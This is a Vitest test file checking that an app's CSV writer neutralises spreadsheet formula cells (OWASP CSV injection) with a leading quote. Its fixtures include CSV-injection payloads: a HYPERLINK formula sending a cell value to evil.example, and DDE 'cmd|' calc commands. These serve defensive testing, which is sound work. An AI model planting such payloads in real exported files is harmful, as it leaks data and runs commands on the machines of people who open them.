import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, looksLikeFormula } from '../../electron/core/datasets/csv-cell.js';
import { predictCsv } from '../../electron/core/evaluation/predict-csv.js';
import type { Predictor } from '../../electron/core/evaluation/model-source.js';
import { repoRoot, tempDir } from '../helpers/workspace.js';

// Issue 13, defect 6: CSV Ciclo writes never carries a live spreadsheet formula (OWASP CSV injection).

describe('csvCell', () => {
  it('neutralises cells that start like a formula with a leading single quote', () => {
    expect(csvCell('=HYPERLINK("http://evil.example","x")', ',')).toBe(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(csvCell("+cmd|' /C calc'!A0", ',')).toBe("'+cmd|' /C calc'!A0");
    expect(csvCell('-2+3+cmd', ',')).toBe("'-2+3+cmd");
    expect(csvCell('@SUM(1+1)', ',')).toBe("'@SUM(1+1)");
    expect(csvCell('\t=1+1', ',')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1', ',')).toBe(`"'\r=1+1"`);
  });

  it('leaves plain numbers and ordinary text alone, and still quotes as RFC 4180 asks', () => {
    for (const n of ['-1.5', '+3', '-2e-3', '-.5', '42']) expect(csvCell(n, ',')).toBe(n);
    expect(looksLikeFormula('-1.5')).toBe(false);
    expect(looksLikeFormula('-')).toBe(true);
    expect(csvCell('a=b', ',')).toBe('a=b');
    expect(csvCell('a,b', ',')).toBe('"a,b"');
    expect(csvCell('a;b', ';')).toBe('"a;b"');
  });

  it('predict output of the formula fixture carries no cell a spreadsheet would run', async () => {
    const dir = tempDir();
    const out = path.join(dir, 'scored.csv');
    const model: Predictor = {
      runId: 'r',
      task: 'binary',
      classes: ['a', 'b'],
      target: 'label',
      inputKind: 'tabular',
      features: [{ name: 'amount', type: 'numeric' }],
      paramCount: 1,
      sizeBytes: 1,
      backend: 'cpu',
      predict: () => Promise.reject(new Error('not used')),
      predictRows: async (rows) => ({ output: Float64Array.from(rows.flatMap(() => [0.4, 0.6])), rejected: [] }),
      dispose: () => undefined,
    };
    await predictCsv(model, path.join(repoRoot, 'test/fixtures/bad-inputs/formula-cells.csv'), out);
    const rows = parse(fs.readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    for (const r of rows) for (const v of Object.values(r)) expect(looksLikeFormula(v), v).toBe(false);
    expect(rows.map((r) => r.link)).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A2,"click")`,
      "'+cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'-2+3+cmd|' /C calc'!A0",
      'plain',
      'plain',
    ]);
    expect(rows.map((r) => r.amount)).toEqual(['10', '-1.5', '3', '4', '5', '6']);
  });
});
